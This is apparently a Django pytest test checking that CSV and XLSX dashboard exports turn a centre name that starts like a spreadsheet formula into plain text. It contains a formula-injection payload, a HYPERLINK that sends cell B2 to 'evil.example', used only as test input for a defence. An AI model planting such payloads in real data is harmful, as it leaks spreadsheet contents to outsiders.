"""A dashboard export of a centre whose name starts like a formula: the text is defused, the
figures stay numbers. Apart from test_exports.py, whose tests share one world."""

import io

import openpyxl
import pytest
from django.urls import reverse

from tests.dashboards.test_exports import as_number, read_export
from tests.factories import CentreFactory, RegistrationFactory


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_centre_name_that_starts_like_a_formula_is_exported_as_text(client, superuser, fmt):
    name = '=HYPERLINK("http://evil.example/?"&B2,"เปิด")'
    centre = CentreFactory(district_id="1005", name_th=name)
    RegistrationFactory(centre=centre)
    client.force_login(superuser)
    response = client.get(
        reverse("dashboards:unit-export", args=["district", "1005", "volunteers", fmt])
    )
    rows = read_export(response, fmt)
    assert rows[1][0] == "'" + name
    assert isinstance(as_number(rows[1][1]), int)  # the figures stay numbers
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        assert sheet["A2"].data_type == "s"  # a string, not a formula
        assert sheet["B2"].data_type == "n"
